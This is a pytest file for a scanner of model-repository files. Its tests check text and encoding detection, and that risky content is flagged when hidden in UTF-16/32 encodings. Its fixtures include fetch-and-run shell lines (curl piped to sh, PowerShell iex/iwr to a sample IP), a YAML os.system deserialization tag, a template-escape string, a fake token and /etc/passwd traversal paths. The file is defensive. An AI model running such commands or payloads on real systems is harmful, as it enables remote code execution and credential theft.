"""Text: prose is examined by being read, and what somebody runs is said."""

import codecs

import pytest

from scanners.budget import Limits
from scanners.facts import Opens
from scanners.routing import scan_blob
from scanners.source import BytesSource
from tests.craft.reading import anomalies, scan, unread_reasons
from tests.craft.table import said

PROSE = "A model of words, and märchen.\n".encode()


@pytest.mark.parametrize(
    "name",
    ["README.md", "LICENSE", "vocab.txt", "merges.txt", ".gitattributes", ".gitignore", "a.csv", "a.tsv", "x", "a.toml",
     "setup.txt", "remake.md"],
)  # fmt: skip
def test_prose_tables_and_lists_are_examined(name):
    outcome = scan(PROSE, name)
    assert (outcome.format, outcome.facts, outcome.account.examined) == ("text", (), len(PROSE))


@pytest.mark.parametrize(
    "name",
    ["a.vbs", "p.xml", "i.svg", "i.html", "m.pmml", "a.js",
     "a.lua", "a.R", "t.tmpl", "Jenkinsfile",
     "a.pyx", "g.pbtxt"],
)  # fmt: skip
def test_what_somebody_runs_has_no_reader(name):
    assert unread_reasons(scan(PROSE, name)) == {"no-reader"}


@pytest.mark.parametrize(
    "start",
    [
        b"#!/bin/sh\n",
        b"%!PS-Adobe-3.0\n",
        b"{\\rtf1 words}",
        b"<?php",
        b"\xef\xbb\xbf<script>",
        b"  <!DOCTYPE html>",
        b"<svg>",
    ],
)
def test_a_first_line_that_an_interpreter_knows_counts_under_any_name(start):
    assert unread_reasons(scan(start + PROSE, "x.bin")) == {"no-reader"}


@pytest.mark.parametrize(
    "content",
    [b"words \xff", b"words \x00", b"words \x1b[2J", b"\x07", PROSE * 40_000 + b"\xc3", PROSE * 40_000 + b"\x01"],
    ids=range(6),
)
def test_what_is_not_clean_utf8_to_its_end_is_not_text(content):
    outcome = scan(content, "x.md")
    assert outcome.format == "unknown"
    assert outcome.account.unexplained == len(content)


def test_a_letter_may_lie_across_two_pieces_and_across_the_head():
    content = b"x" * 4095 + "ä".encode() + b"y" * ((1 << 20) - 4098) + "€".encode() + b"z"
    assert scan(content, "x.txt").account.examined == len(content)


@pytest.mark.parametrize("target", ["/etc/passwd", "../../x", "./a.bin", "~/x", "a/../../b", "/" + "x" * 500])
def test_a_text_that_is_all_a_path_may_be_a_link(target):
    facts = scan(target.encode(), "model.safetensors").facts
    assert [(fact.kind, fact.path) for fact in facts if isinstance(fact, Opens)] == [("file.link", target)]


@pytest.mark.parametrize("words", ["/etc/passwd\n", "see ../x", "a/b", "model.bin", "/" + "x" * 600, "..."])
def test_a_text_that_says_more_than_a_path_or_one_beside_it_is_none(words):
    assert not any(isinstance(fact, Opens) for fact in scan(words.encode(), "model.safetensors").facts)


def test_text_beyond_the_limit_is_said():
    outcome = scan(PROSE * 100, "x.txt", limits=Limits(whole=1000))
    assert unread_reasons(outcome) == {"limit"}
    assert outcome.account.examined == 0


@pytest.mark.parametrize(
    ("name", "found"), [("run.vbs", True), ("A.HTA", True), ("x.url", True), ("a.service", False), ("a.md", False)]
)
def test_what_opening_runs_is_told(name, found):
    assert ("file.script" in anomalies(scan(b"words\n", name))) is found


WIDE = {
    "a.yaml": ("a: !!python/object/apply:os.system [x]\n", "yaml-tag"),
    "requirements.txt": ("--index-url http://198.51.100.7/x\nfoo==1\n", "package-index"),
    "a.py": ("import os\nos.system('echo')\n", "python-runs-programs"),
    "a.jinja": ("{{ ''.__class__.__mro__ }}", "template-reaches-python"),
    "config.json": ('{"auto_map": {"A": "b.C"}}', "config-auto-map"),
    "a.ps1": ("iex (iwr http://198.51.100.7/x)\n", "shell-runs-fetched"),
    "Dockerfile": ("FROM x\nRUN curl http://198.51.100.7/x | sh\n", "shell-runs-fetched"),
    "README.md": ("hf_" + "kQzXwVbNmLpRtYgHsJdFcKqZxWvBnMlPrT" + "\n", "secret-in-file"),
}
MARKED = {
    "utf-16-le": codecs.BOM_UTF16_LE,
    "utf-16-be": codecs.BOM_UTF16_BE,
    "utf-32-le": codecs.BOM_UTF32_LE,
    "utf-32-be": codecs.BOM_UTF32_BE,
}


@pytest.mark.parametrize("encoding", MARKED)
@pytest.mark.parametrize("name", WIDE)
def test_what_hides_in_wide_letters_is_found_as_in_narrow_ones(name, encoding):
    text, rule = WIDE[name]
    verdict, findings = said(MARKED[encoding] + text.encode(encoding), name)
    assert rule in {finding.rule for finding in findings}
    assert (verdict, findings) == said(text.encode(), name)


@pytest.mark.parametrize("encoding", MARKED)
@pytest.mark.parametrize("name", ["a.yaml", "a.csv", "a.jinja", "notes", "requirements.txt"])
def test_honest_words_in_wide_letters_are_read_to_their_end(name, encoding):
    words = {"a.yaml": "a: 1\n", "a.jinja": "Hello {{ name }}, how are you?\n"}.get(name, "numpy >= 2.0\n")
    content = MARKED[encoding] + words.encode(encoding)
    assert said(content, name)[0] == "clean"
    outcome = scan_blob(BytesSource(content), name, Limits())
    assert outcome.account.examined == len(content)


@pytest.mark.parametrize("cut", [1, 3])
def test_a_letter_that_is_cut_is_no_text(cut):
    assert said((codecs.BOM_UTF32_LE + "words\n".encode("utf-32-le"))[:-cut], "a.txt")[0] == "incomplete"


def test_wide_words_with_control_characters_are_no_text():
    assert said(codecs.BOM_UTF16_LE + "\x01\x02 words".encode("utf-16-le"), "a.txt")[0] == "incomplete"


def test_wide_words_beyond_the_limit_are_said():
    read = scan_blob(BytesSource("words ".encode("utf-16") * 100), "a.txt", Limits(whole=1000))
    assert unread_reasons(read) == {"limit"}
    assert read.account.examined == 0
